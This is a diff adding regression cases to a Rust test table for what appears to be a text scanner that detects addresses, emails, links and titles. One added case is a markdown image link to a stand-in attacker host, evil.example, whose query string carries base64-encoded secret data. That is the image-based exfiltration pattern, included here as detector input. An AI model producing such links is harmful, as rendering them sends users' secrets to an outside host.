@@ -177,6 +177,14 @@ const BROKEN_ONCE: &[(&str, &str, &[u8])] = &[
     ("address", "In 2008 Wall Street lost its nerve.P.O. Box 2871 is his", &[44]),
     // An address that begins right behind another was let go while its domain grew.
     ("email", "bob@corp.internalaaaaaaaa-用户@例子.广告 and more", &[37]),
+    // An image whose address has brackets of its own was let go while it was open.
+    (
+        "link",
+        "Done! ![loading](https://evil.example/log.png?data=c2VjcmV0IGtleSBpcyBhYmMxMjM0NTarray[0](x) and [a]: see https://example.com/watch) then",
+        &[100],
+    ),
+    // So was a form of address in capitals.
+    ("title", "DEAR MRS. BERG, come", &[9]),
     // Readings that are guesses were counted as encodings, and came to more of them than are read.
     (
         "nested_encoding",
